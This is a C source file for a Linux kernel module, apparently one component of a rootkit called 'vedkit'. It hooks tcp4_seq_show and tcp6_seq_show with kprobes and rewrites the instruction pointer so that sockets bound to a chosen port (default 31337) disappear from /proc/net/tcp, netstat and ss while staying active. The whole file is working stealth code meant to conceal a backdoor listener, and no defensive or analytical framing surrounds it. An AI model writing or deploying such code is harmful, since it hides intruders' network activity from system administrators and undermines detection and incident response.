// SPDX-License-Identifier: GPL-2.0
/*
 * kprobe_port: hide the sockets bound to local TCP port hide_port (default
 * 31337) from /proc/net/tcp and /proc/net/tcp6, hence from netstat and ss
 * in /proc mode; the sockets themselves keep working.
 *
 * tcp4_seq_show()/tcp6_seq_show() print one socket per call.  A kprobe at
 * their entry looks at the socket and, for the hidden port, sets the
 * instruction pointer to a stub that prints nothing and returns 0; a
 * pre_handler that returns 1 tells kprobes that it changed regs->ip (the
 * same mechanism as bpf_override_return).
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/kprobes.h>
#include <linux/seq_file.h>
#include <net/sock.h>

#include "vedkit.h"

static int vk_seq_show_skip(struct seq_file *seq, void *v)
{
	return 0;
}

static int vk_tcp_show_pre(struct kprobe *p, struct pt_regs *regs)
{
	/* tcpX_seq_show(seq, v): v in rsi. */
	void *v = (void *)regs->si;

	if (v == SEQ_START_TOKEN)
		return 0;
	/*
	 * v is a full socket, a request sock or a timewait sock: all of them
	 * start with struct sock_common, which holds the local port.
	 */
	if (((struct sock_common *)v)->skc_num != vk_hide_port)
		return 0;
	regs->ip = (unsigned long)vk_seq_show_skip;
	return 1;
}

static struct kprobe vk_tcp4_kp = {
	.symbol_name = "tcp4_seq_show",
	.pre_handler = vk_tcp_show_pre,
};

static struct kprobe vk_tcp6_kp = {
	.symbol_name = "tcp6_seq_show",
	.pre_handler = vk_tcp_show_pre,
};

static bool vk_tcp6_on;

int vk_kprobe_port_init(void)
{
	int ret;

	ret = register_kprobe(&vk_tcp4_kp);
	if (ret)
		return ret;
	/* IPv6 may be a module or absent: hide what there is. */
	vk_tcp6_on = !register_kprobe(&vk_tcp6_kp);
	pr_info("kprobes on tcp4_seq_show%s hide TCP port %d\n",
		vk_tcp6_on ? "/tcp6_seq_show" : "", vk_hide_port);
	return 0;
}

void vk_kprobe_port_exit(void)
{
	if (vk_tcp6_on)
		unregister_kprobe(&vk_tcp6_kp);
	unregister_kprobe(&vk_tcp4_kp);
}
